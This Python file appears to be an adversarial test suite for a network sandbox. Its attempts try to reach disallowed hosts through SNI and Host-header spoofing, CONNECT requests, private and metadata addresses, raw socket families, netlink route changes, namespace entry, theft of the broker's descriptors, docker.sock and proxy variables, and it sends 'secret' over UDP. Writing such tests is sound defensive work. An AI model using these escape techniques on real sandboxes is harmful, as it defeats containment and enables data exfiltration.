"""Attempts by what is said in a connection, and by other ways than connections."""
import ctypes, os, socket, struct, subprocess

from attempts import (ALLOWED, CONNECTED, LIBC, OTHER, SEEN_HTTP, address_of, ask, attempt, hello, http, question,
                      quietly, send, tcp)


# What is said.
@attempt(seen=CONNECTED)
def another_server_name():
    hello([b"shared.example"]), hello([b"other.example"]), hello([b"www.wild.example"])


@attempt(seen=CONNECTED)
def no_server_name():
    hello([]), hello([b""])


@attempt(seen=CONNECTED)
def two_server_names():
    hello([b"allowed.example", b"shared.example"]), hello([b"shared.example", b"allowed.example"])


@attempt(seen=CONNECTED)
def server_names_with_odd_characters():
    for name in (b"shared.example\0.allowed.example", b"allowed.example\0.shared.example", b"allowed.example/",
                 b" allowed.example", b"allowed.example ", b"allowed..example", b"shared.example.allowed.example"):
        hello([name])


@attempt(seen=CONNECTED)
def another_server_name_in_pieces():
    hello([b"shared.example"], pieces=1), hello([b"shared.example"], pieces=7, pause=0.05)


@attempt(seen=CONNECTED)
def another_server_name_behind_a_second_extension():
    entry = b"\0" + struct.pack(">H", 14) + b"shared.example"
    more = struct.pack(">HHH", 0, len(entry) + 2, len(entry)) + entry
    hello([b"allowed.example"], extensions=more), hello([], extensions=more)


@attempt(seen=CONNECTED)
def no_tls_on_its_port():
    send("allowed.example", 443, b"GET / HTTP/1.1\r\nHost: shared.example\r\n\r\n")
    send("allowed.example", 443, b"SSH-2.0-x\r\n"), send("allowed.example", 443, bytes(100))


@attempt(seen=CONNECTED)
def records_without_end():
    send("allowed.example", 443, b"\x16\3\1\x40\0\1\0\xff\xff" + bytes(40000), pieces=4000)


@attempt(seen=CONNECTED)
def another_host():
    for head in ("Host: shared.example", "host:shared.example", "HOST:\tshared.example", "Host: other.example:80",
                 "Host: allowed.example@shared.example", "Host: allowed.example.shared.example", "Host: ", "X: y",
                 "Host: allowed.example\r\nHost: shared.example", "Host: shared.example\r\nHost: allowed.example",
                 "Host : allowed.example", "Host: allowed.example, shared.example", "Host: allowed.example\0shared"):
        http(f"GET / HTTP/1.1\r\n{head}\r\n\r\n")


@attempt(seen=CONNECTED)
def another_target():
    for target in ("http://shared.example/", "HTTP://Shared.Example/", "http://allowed.example@shared.example/"):
        http(f"GET {target} HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
    http("CONNECT shared.example:443 HTTP/1.1\r\nHost: shared.example:443\r\n\r\n")


@attempt(seen=CONNECTED)
def requests_in_old_forms():
    for head in ("GET /\r\n\r\n", "GET / HTTP/1.0\r\n\r\n", "GET / HTTP/1.1\n\nHost: allowed.example\n\n",
                 "GET / HTTP/1.1\r\nX: y\r\n Host: allowed.example\r\n\r\n", "\0\0\0\0\r\n\r\n", "PRI * HTTP/2.0\r\n\r\n"):
        http(head)


@attempt(seen=CONNECTED)
def a_head_without_end():
    send("allowed.example", 80, b"GET / HTTP/1.1\r\n" + b"X: y\r\n" * 20000, pieces=60000)


# Names that lead elsewhere.
@attempt(flags=["--connect", "private.example:80", "--connect", "metadata.example:80", "--connect", "loop.example:80"],
         seen=["question private.example", "question metadata.example", "question loop.example"])
def names_that_lead_to_private_addresses():
    for name in ("private.example", "metadata.example", "loop.example"):
        send(name, 80, f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())


# Other ways.
@attempt()
def datagrams():
    for address in (ALLOWED, OTHER, "198.18.0.2", "203.0.113.53", "255.255.255.255", "127.0.0.1"):
        for port in (9, 53, 80, 443):
            with socket.socket(type=socket.SOCK_DGRAM) as s:
                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                quietly(lambda: s.sendto(b"secret", (address, port)))
                quietly(lambda: s.connect((address, port)))
                quietly(lambda: s.send(b"secret"))


@attempt()
def other_protocols():
    for family in (2, 10, 16, 17, 30, 31, 38, 40, 43, 44):
        for kind in (1, 2, 3, 5, 10):
            for proto in (0, 1, 58, 132, 136, 255, 262):
                def talk():
                    with socket.socket(family, kind, proto) as s:
                        s.settimeout(0.2)
                        s.connect((OTHER if family != 10 else f"::ffff:{OTHER}", 80))
                        s.send(b"secret")

                try:
                    talk()
                except (OSError, TypeError, ValueError, OverflowError):
                    pass


@attempt()
def options_of_sockets():
    with socket.socket() as s:
        for level, option, value in ((0, 19, 1), (41, 75, 1), (1, 36, 1), (6, 19, 1), (1, 25, b"eth0\0"), (6, 31, b"smc\0"),
                                     (6, 42, 1)):
            quietly(lambda: s.setsockopt(level, option, value))
        s.settimeout(1)
        quietly(lambda: s.connect((OTHER, 80)))
        quietly(lambda: s.send(b"x"))


@attempt()
def routes_and_interfaces():
    def change(kind, flags, body):
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:
            s.send(struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body)
            s.settimeout(1)
            s.recv(4096)

    route = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 255, 3, 254, 2, 0) + struct.pack("HHI", 8, 4, 1)
    quietly(lambda: change(25, 5, route))
    quietly(lambda: change(16, 5, struct.pack("BBHiII", 0, 0, 0, 1, 0, 1)))
    tcp(OTHER, 80), ask([b"secret", b"evil", b"example"])


@attempt()
def other_namespaces():
    for flags in (0x40000000, 0x10000000 | 0x40000000):
        LIBC.unshare(flags)
    for process in os.listdir("/proc"):
        if process.isdigit():
            def enter():
                handle = os.open(f"/proc/{process}/ns/net", os.O_RDONLY)
                LIBC.setns(handle, 0)
                os.close(handle)

            quietly(enter)
    tcp(OTHER, 80)


@attempt()
def the_broker_as_a_process():
    for process in range(1, 400):
        quietly(lambda: os.kill(process, 0) if process != os.getpid() else None)
        for number in range(0, 12):
            def take():
                handle = LIBC.syscall(434, process, 0)
                if handle >= 0:
                    LIBC.syscall(438, handle, number, 0)
                    os.close(handle)

            quietly(take)
    tcp(OTHER, 80)


@attempt()
def a_ring():
    LIBC.syscall(425, 8, ctypes.create_string_buffer(120))
    tcp(OTHER, 80)


@attempt()
def sockets_of_unix():
    for name in ("\0abstract", "/run/docker.sock", "/run/systemd/resolve/io.systemd.Resolve", "/run/nscd/socket"):
        with socket.socket(socket.AF_UNIX) as s:
            quietly(lambda: s.connect(name))


@attempt()
def variables_for_proxies():
    for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
        os.environ[name] = "*" if name == "NO_PROXY" else f"http://{OTHER}:80"
    quietly(lambda: subprocess.run(["curl", "-sS", "-m", "3", "http://other.example/"], capture_output=True))


@attempt()
def a_run_inside():
    words = [os.environ["SBX_PROGRAM"], "run", "-q", "--net", "host", "--", "curl", "-sS", "-m", "3", f"http://{OTHER}/"]
    quietly(lambda: subprocess.run(words, capture_output=True))


@attempt(seen=SEEN_HTTP)
def many_connections():
    held = [quietly(lambda: socket.create_connection(("allowed.example", 80), timeout=3)) for _ in range(600)]
    tcp(OTHER, 80)
    del held


@attempt(seen=SEEN_HTTP)
def a_server_in_the_place_of_a_host():
    def serve():
        with socket.socket() as s:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            s.bind((address_of("allowed.example"), 80))
            s.listen()

    quietly(serve)
    tcp(OTHER, 80)


@attempt(seen=SEEN_HTTP)
def bytes_after_the_end():
    def talk():
        with socket.create_connection(("allowed.example", 80), timeout=3) as s:
            s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
            s.shutdown(socket.SHUT_WR)
            s.recv(1000)
            LIBC.connect(s.fileno(), bytes(16), 16)
            s.connect((OTHER, 80))
            s.send(b"x")

    quietly(talk)
